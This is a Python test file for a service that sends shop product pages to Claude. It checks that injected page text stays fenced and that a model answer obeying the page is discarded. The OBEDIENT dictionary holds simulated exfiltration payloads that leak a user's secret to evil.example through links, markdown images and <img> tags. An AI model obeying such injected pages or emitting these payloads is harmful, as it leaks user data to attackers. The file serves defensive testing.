"""Pages that try to steer the verdict, from HTML to what Claude is sent, and the answers of a model that obeys them."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html import escape
from pathlib import Path
from typing import Any

import msgspec
import pytest

from domain.events import CostIncurred, ProductAnalyzed
from tests.adapters.claude.talking import valid_answer
from tests.application.prompting.test_injection import FORGED, HOSTILE
from tests.builders import PROFILE
from tests.ledger_in_earnest.failures import an_answer
from tests.ledger_in_earnest.service import Service, running
from tests.simulator.faults import Says
from tests.simulator.server import Peer, serving
from tests.simulator.state import Simulator

pytestmark = pytest.mark.slow

LINE = re.compile(r"([0-9]+) ([^:]+): (.+)")
SECRET = "kept-in-the-wardrobe-4711"
PERSON = PROFILE | {"style_keywords": ["linen", SECRET]}
LEAK = f"https://evil.example/?q={SECRET}"
# What a model writes that does as a page says: forged numbers, markup, addresses, what it knows of the person.
OBEDIENT: dict[str, dict[str, Any]] = {
    **{name: changes for name, (changes, _) in FORGED.items()},
    "the person in an address": {"value": f"See {LEAK}"},
    "the person in a picture's address": {"fit": f"![x]({LEAK})"},
    "the person in markup": {"head": f'<img src="{LEAK}">'},
    "the person in escaped markup": {"color": f"&lt;a href={LEAK}&gt;"},
}


@asynccontextmanager
async def both(data_dir: Path) -> AsyncIterator[tuple[Service, Peer]]:
    """A service and the simulator it asks."""
    async with serving(Simulator(author=valid_answer)) as peer, running(data_dir, peer.url) as service:
        yield service, peer


def page(text: str, *, loud: bool = True) -> dict[str, Any]:
    """A shop's page that says so wherever a page can say something, or in its description alone."""
    quiet = {"@context": "https://schema.org", "@type": "Product", "name": "Linen shirt", "description": text}
    data = {
        "@context": "https://schema.org",
        "@type": "Product",
        "name": f"Linen shirt {text}"[:1900],
        "description": text,
        "brand": {"@type": "Brand", "name": text[:1900]},
        "material": f"100% linen {text}"[:1900],
        "color": text[:200],
        "category": "Shirts",
        "sku": text[:100],
        "offers": {"@type": "Offer", "price": "39.90", "priceCurrency": "EUR"},
    }
    script = json.dumps(data if loud else quiet).replace("</", "<\\/")
    shown = escape(text if loud else "")
    html = (
        f"<html><head><title>{shown}</title><meta name='description' content='{shown}'>"
        f"<meta property='og:title' content='{shown}'><script type='application/ld+json'>{script}</script></head>"
        f"<body><h1>Linen shirt {shown}</h1><p>{shown}</p><dl><dt>Composition</dt><dd>100% linen {shown}</dd></dl>"
        f"<p>{text if loud else ''}</p></body></html>"
    )
    return {"url": "https://shop.example/p/hostile", "html": html}


async def test_no_hostile_page_leaves_its_fence(data_dir: Path) -> None:
    assert len(HOSTILE) >= 25
    around, seen = set(), 0
    async with both(data_dir) as (service, peer):
        for number, (name, text) in enumerate(HOSTILE.items()):
            body = {"session_id": f"s{number}", "page": page(text), "user_profile": PERSON}
            answer = await service.client.post("/api/v1/analyze", json=body)
            assert answer.status_code == 200, (name, answer.text)
            assert answer.json()["stylist"] == "claude", name
            sent = last_sent(peer)
            lines = fenced(sent)
            assert "title" in {label for label, _ in lines.values()}, name
            seen += any(re.search("100|score|page|rate", told) for _, told in lines.values())
            around.add(json.dumps({part: what for part, what in sent.items() if part != "messages"}))
        assert len(service.logged(ProductAnalyzed)) == len(peer.simulator.account.calls) == len(HOSTILE)
    assert len(around) == 1, "nothing of any page is outside of its fence"
    assert SECRET in around.pop(), "the person stands where no page reaches"
    assert seen > 25, "pages did say what they wanted to"


@pytest.mark.parametrize("changes", OBEDIENT.values(), ids=OBEDIENT.keys())
async def test_an_answer_that_obeys_the_page_reaches_nobody(changes: dict[str, Any], data_dir: Path) -> None:
    async with both(data_dir) as (service, peer):
        obeyed = Says(text=an_answer(**changes))
        peer.simulator.script.add(obeyed, obeyed)
        body = {"session_id": "s", "page": page(HOSTILE["exfiltration"], loud=False), "user_profile": PERSON}
        events = await service.events_of_stream(**body)

        (name, told), heard = events[-1], json.dumps([data for kind, data in events if kind == "partial"])
        assert (name, told["stylist"], told["degraded_reason"]) == ("analysis", "rules", "STYLIST_UNAVAILABLE")
        for text in (json.dumps(told["analysis_data"]), heard):
            assert not re.search(r"evil|[<>]|&lt;|777|1000", text)
        assert SECRET not in heard
        assert [one.stylist for one in service.logged(ProductAnalyzed)] == ["rules"]
        paid = [one.cost_picousd for one in service.logged(CostIncurred) if one.reservation_id]
        assert paid == [call.picodollars for call in peer.simulator.account.calls]
        assert len(paid) == 2


async def test_members_a_page_made_up_come_to_nothing(data_dir: Path) -> None:
    made_up = {"verdict": "love", "style_match_score": 100, "profile": PERSON, "evidence": [1], "html": f"<a {LEAK}>"}
    async with both(data_dir) as (service, peer):
        peer.simulator.script.add(Says(text=an_answer(**made_up)))
        body = {"session_id": "s", "page": page(HOSTILE["fake JSON"]), "user_profile": PERSON}
        answer = await service.client.post("/api/v1/analyze", json=body)
    told = answer.json()
    assert (told["stylist"], told["analysis_data"]["style_match_score"]) == ("claude", 70)
    assert SECRET not in answer.text
    assert LEAK not in answer.text


def last_sent(peer: Peer) -> dict[str, Any]:
    """The body of the latest question that came to the simulator."""
    requests = [request for request in peer.simulator.received if request.path == "/v1/messages"]
    return dict(msgspec.json.decode(requests[-1].body))


def fenced(sent: dict[str, Any]) -> dict[int, tuple[str, str]]:
    """Label and text of each numbered line of the product's section, which is all that a page had a part in."""
    [message] = sent["messages"]
    [block] = message["content"]
    text = block["text"]
    assert text.startswith("<product>\n")
    assert text.count("<product>") == text.count("</product>") == 1
    inside, outside = text.removeprefix("<product>\n").split("\n</product>\n")
    assert outside == "Write all texts in English."
    assert not re.search("[<>]", inside)
    found = [LINE.fullmatch(line) for line in inside.split("\n")]
    numbered = {int(match[1]): (match[2], match[3]) for match in found if match is not None}
    assert list(numbered) == list(range(101, 101 + len(found))), "every line has its number, and in order"
    return numbered
